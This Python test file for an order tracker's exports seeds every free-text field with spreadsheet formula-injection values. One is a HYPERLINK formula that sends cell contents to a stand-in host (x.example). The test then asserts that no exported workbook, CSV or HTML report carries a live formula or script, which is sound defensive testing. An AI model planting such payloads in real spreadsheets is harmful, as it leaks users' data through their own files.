"""Every table that a command writes, from a shop in which every free text is a formula (fault 29)."""

from __future__ import annotations

import csv
import sqlite3
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from tests.cli.conftest import Shop
from tests.cli.shell import Shell
from tracker.messages.cells import like_a_formula

EVIL = '=HYPERLINK("https://x.example/?"&A1;"click")'
WRAPPED = "lamp; ＝1+1\n@SUM(A1)"
AT = ("--at", "2026-03-02")
TEXTS = {
    "dossier": ("buyer_name", "note", "raw_state", "region"),
    "shipment": ("service_text",),
    "claim": ("note", "carrier_ref", "inquiry_ref"),
    "task": ("title",),
    "task_item": ("body",),
    "outbox": ("result", "body"),
}


@pytest.fixture
def evil(shop: Shop, shell: Shell) -> Shop:
    """The shop, its texts changed below every check."""
    shell("claims", "set", "1", "--evidence", f"proof_of_value={EVIL}@2026-03-01", *AT)
    database = sqlite3.connect(shop.folder / "tracker.db")
    with database:
        for table, columns in TEXTS.items():
            for at, column in enumerate(columns):
                database.execute(f"UPDATE {table} SET {column} = ?", ((EVIL, WRAPPED)[at % 2],))  # noqa: S608 - the names above
    database.close()
    return shop


def _written(shell: Shell, out: Path) -> Iterator[Path]:
    for kind in ("review", "tasks", "cases", "claims"):
        assert shell(kind, "export", out / f"{kind}.xlsx", *AT).code == 0
    for name in ("form.xlsx", "form.csv"):
        shell("claims", "export", out / name, "--ready", "--carrier", "yanwen", "--unverified", *AT)
    assert shell("report", "month-end", "--month", "2026-02", "--out", out / "month", *AT).code == 0
    assert shell("report", "evidence", "A-1", "--out", out / "evidence", *AT).code == 0
    assert shell("report", "handover", "--out", out / "shift.html", *AT).code == 0
    for archive in out.rglob("*.zip"):
        with zipfile.ZipFile(archive) as packed:
            packed.extractall(archive.with_suffix(".unpacked"))
    yield from (path for path in out.rglob("*") if path.is_file())


def test_no_export_holds_a_formula(evil: Shop, shell: Shell, tmp_path: Path) -> None:
    """Fault 29: worksheets, forms, register, month-end, evidence; nothing but text, numbers and dates is in any cell."""
    out = tmp_path / "out"
    out.mkdir()
    books = tables = seen = 0
    for path in _written(shell, out):
        if path.suffix == ".xlsx":
            books += 1
            for page in openpyxl.load_workbook(path).worksheets:
                for cell in (cell for row in page.iter_rows() for cell in row):
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                    seen += EVIL in str(cell.value)
        elif path.suffix == ".csv":
            tables += 1
            for separator in ",;\t":
                with path.open(encoding="utf-8-sig", newline="") as file:
                    found = [cell for row in csv.reader(file, delimiter=separator) for cell in row]
                assert [cell for cell in found if like_a_formula(cell) and cell[0] not in "\t\r\n"] == [], path.name
        elif path.suffix == ".html":
            assert "<script" not in path.read_text(encoding="utf-8")
    assert books >= 5
    assert tables >= 1
    assert seen, "the formula came through as text: it was there to be found"
